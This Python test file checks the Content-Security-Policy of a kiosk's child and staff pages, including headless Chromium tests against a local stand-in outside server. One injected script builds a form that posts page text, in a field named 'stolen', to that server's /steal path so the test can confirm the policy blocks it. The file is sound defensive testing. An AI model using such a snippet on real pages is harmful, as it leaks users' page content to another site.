"""Both pages load nothing from outside the kiosk: the Content-Security-Policy header on every response, and
headless Chromium refusing an outside image (and, on the staff page, a form posting outside).

The browser test first proves that Chromium reaches the outside server at all (a page there loads its own
image), so the refusals that follow are the policy's doing; each refusal is seen as a
``securitypolicyviolation`` event, not inferred from silence.
"""

from __future__ import annotations

import contextlib
import shutil
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from flask import Flask
from werkzeug.serving import make_server

from bench.chromium import CHROMEDRIVER, headless_chromium
from kiosk.dashboard.accounts import StaffAccounts
from kiosk.dashboard.app import StaffFeed, create_staff_app
from kiosk.dashboard.throttle import LoginThrottle
from kiosk.web.app import create_app
from kiosk.web.media import MediaStore
from kiosk.web.state import ScreenState
from tests.conftest import wait_for

PASSWORD = "correct horse battery"
# where each kind of load falls back to when the policy has no directive of its own (CSP level 3)
FETCH_DIRECTIVES = {
    "script-src": ("script-src",),
    "script-src-elem": ("script-src-elem", "script-src"),
    "style-src": ("style-src",),
    "img-src": ("img-src",),
    "font-src": ("font-src",),
    "connect-src": ("connect-src",),
    "media-src": ("media-src",),
    "object-src": ("object-src",),
    "frame-src": ("frame-src", "child-src"),
    "worker-src": ("worker-src", "child-src", "script-src"),
    "manifest-src": ("manifest-src",),
}
INSIDE = {"'self'", "'none'"}
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d4944415478da63f8ffff3f0005fe02fea7d6a4530000000049454e44ae426082"
)


def parse_policy(header: str) -> dict[str, list[str]]:
    policy: dict[str, list[str]] = {}
    for part in header.split(";"):
        if words := part.split():
            policy.setdefault(words[0].lower(), words[1:])  # the first of a repeated directive counts
    return policy


def effective_sources(policy: dict[str, list[str]], directive: str) -> list[str]:
    for name in (*FETCH_DIRECTIVES[directive], "default-src"):
        if name in policy:
            return policy[name]
    return ["*"]  # no directive and no default: anything loads


def outside_sources(policy: dict[str, list[str]]) -> dict[str, list[str]]:
    """Per kind of load, the sources that are not this kiosk (``data:`` images are inline, not outside)."""
    found = {}
    for directive in FETCH_DIRECTIVES:
        allowed = INSIDE | ({"data:"} if directive == "img-src" else set())
        if outside := [s for s in effective_sources(policy, directive) if s.lower() not in allowed]:
            found[directive] = outside
    return found


# -- the pages ------------------------------------------------------------------------------------------
def childs_page(tmp_path) -> Flask:
    return create_app(ScreenState(MediaStore(tmp_path / "media", 10, 10**6)), lambda: {"connected": True})


def staff_page(tmp_path) -> Flask:
    accounts = StaffAccounts(tmp_path / "staff-users.json")
    accounts.set_password("carer", PASSWORD)
    return create_staff_app(
        accounts, LoginThrottle(5, 300), StaffFeed(), summary=lambda: {"kiosk_id": "k1"}, health=dict,
        send_command=lambda action, value: None, secret_key=b"k" * 32,
    )  # fmt: skip


def policies_of(client, paths: list[str]) -> dict[str, str | None]:
    return {path: client.get(path).headers.get("Content-Security-Policy") for path in paths}


def test_the_childs_page_keeps_every_load_inside_the_kiosk(tmp_path):
    client = childs_page(tmp_path).test_client()
    for path, header in policies_of(client, ["/", "/static/kiosk.js", "/media/missing.png", "/healthz"]).items():
        assert header, f"{path} has no Content-Security-Policy"
        policy = parse_policy(header)
        assert outside_sources(policy) == {}, f"{path} may load from outside: {outside_sources(policy)}"
        assert not {"'unsafe-inline'", "'unsafe-eval'"} & set(effective_sources(policy, "script-src"))


def test_the_staff_page_keeps_every_load_inside_and_cannot_be_framed_or_post_outside(tmp_path):
    client = staff_page(tmp_path).test_client()
    page = client.get("/login").get_data(as_text=True)
    token = page.split('name="csrf" value="')[1].split('"')[0]
    assert client.post("/login", data={"name": "carer", "password": PASSWORD, "csrf": token}).status_code == 302
    paths = ["/login", "/", "/api/summary", "/static/staff.js", "/no-such-page"]
    for path, header in policies_of(client, paths).items():
        assert header, f"{path} has no Content-Security-Policy"
        policy = parse_policy(header)
        assert outside_sources(policy) == {}, f"{path} may load from outside: {outside_sources(policy)}"
        assert not {"'unsafe-inline'", "'unsafe-eval'"} & set(effective_sources(policy, "script-src"))
        assert policy.get("frame-ancestors") == ["'none'"], "another site could frame the staff page"
        assert policy.get("form-action") == ["'self'"], "an injected form could post outside"
        assert policy.get("base-uri") in (["'none'"], ["'self'"]), "an injected <base> could move relative URLs"


# -- in Chromium ------------------------------------------------------------------------------------------
class Outside(ThreadingHTTPServer):
    """Another origin (127.0.0.2): a page with its own image (the control) and a log of every request."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        self.lock = threading.Lock()
        super().__init__(("127.0.0.2", 0), OutsideHandler)

    @property
    def origin(self) -> str:
        return f"http://127.0.0.2:{self.server_port}"

    def seen(self, fragment: str) -> bool:
        with self.lock:
            return any(fragment in line for line in self.requests)


class OutsideHandler(BaseHTTPRequestHandler):
    server: Outside

    def _record(self) -> None:
        with self.server.lock:
            self.server.requests.append(f"{self.command} {self.path}")

    def do_GET(self) -> None:
        self._record()
        if self.path.startswith("/control.html"):
            body, kind = b'<!doctype html><img id="control" src="/pixel.png?control">', "text/html"
        else:
            body, kind = PIXEL, "image/png"
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self) -> None:
        self._record()
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args) -> None:
        pass


@contextlib.contextmanager
def serving(app_or_server) -> Iterator[str]:
    if isinstance(app_or_server, Outside):
        server = app_or_server
    else:  # threaded: the pages hold event streams open
        server = make_server("127.0.0.1", 0, app_or_server, threaded=True)
        server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://{server.server_address[0]}:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()


WATCH_VIOLATIONS = """
window.cspViolations = [];
document.addEventListener('securitypolicyviolation',
    (e) => window.cspViolations.push({blocked: e.blockedURI, directive: e.effectiveDirective}));
"""
LOAD_OUTSIDE_IMAGE = """
const img = document.createElement('img');
img.id = 'outside-image';
img.onload = () => { img.dataset.result = 'loaded'; };
img.onerror = () => { img.dataset.result = 'error'; };
img.src = arguments[0];
document.body.appendChild(img);
"""
POST_OUTSIDE = """
const form = document.createElement('form');
form.method = 'post';
form.action = arguments[0];
const field = document.createElement('input');
field.name = 'stolen';
field.value = document.body.innerText.slice(0, 100);
form.appendChild(field);
document.body.appendChild(form);
form.submit();
"""


def violations(driver, directive: str, outside: Outside) -> list[dict]:
    found = driver.execute_script("return window.cspViolations || [];")
    return [v for v in found if v["directive"] == directive and v["blocked"].startswith(outside.origin)]


def assert_outside_image_blocked(driver, outside: Outside, label: str) -> None:
    driver.execute_script(WATCH_VIOLATIONS)
    driver.execute_script(LOAD_OUTSIDE_IMAGE, f"{outside.origin}/pixel.png?from={label}")
    assert wait_for(lambda: violations(driver, "img-src", outside), timeout=10), f"{label}: no CSP violation"
    assert wait_for(
        lambda: driver.execute_script("return document.getElementById('outside-image').dataset.result") == "error"
    ), f"{label}: the outside image loaded"
    assert not outside.seen(f"from={label}"), f"{label}: the outside server was asked for the image"


@pytest.mark.browser
@pytest.mark.skipif(shutil.which("chromium") is None or not shutil.which(CHROMEDRIVER), reason="chromium not installed")
def test_chromium_refuses_outside_loads_on_both_pages(tmp_path):
    outside = Outside()
    with contextlib.ExitStack() as stack:
        stack.enter_context(serving(outside))
        child = stack.enter_context(serving(childs_page(tmp_path)))
        staff = stack.enter_context(serving(staff_page(tmp_path)))
        driver = headless_chromium(tmp_path / "chromium", window=(1024, 768))
        stack.callback(driver.quit)  # first out: the pages' event streams close before their servers stop

        # control: with no policy in the way, Chromium does load the outside server's image
        driver.get(f"{outside.origin}/control.html")
        assert wait_for(lambda: outside.seen("pixel.png?control"), timeout=10), "Chromium never reached it"

        driver.get(f"{child}/")
        assert_outside_image_blocked(driver, outside, "childs-page")
        driver.get(f"{staff}/login")
        assert_outside_image_blocked(driver, outside, "staff-login")
        driver.find_element("id", "name").send_keys("carer")
        driver.find_element("id", "password").send_keys(PASSWORD)
        driver.find_element("id", "sign-in").click()
        assert wait_for(lambda: driver.find_elements("id", "feed"), timeout=10), "could not sign in"
        assert_outside_image_blocked(driver, outside, "staff-page")

        driver.execute_script(WATCH_VIOLATIONS)
        driver.execute_script(POST_OUTSIDE, f"{outside.origin}/steal")
        assert wait_for(lambda: violations(driver, "form-action", outside), timeout=10), "the form was not blocked"
        # marker: a later request reaches the outside server, so a posted form would have been logged first
        driver.get(f"{outside.origin}/control.html?after")
        assert wait_for(lambda: outside.seen("control.html?after"), timeout=10)
        assert not outside.seen("POST /steal"), "the staff page posted to another origin"
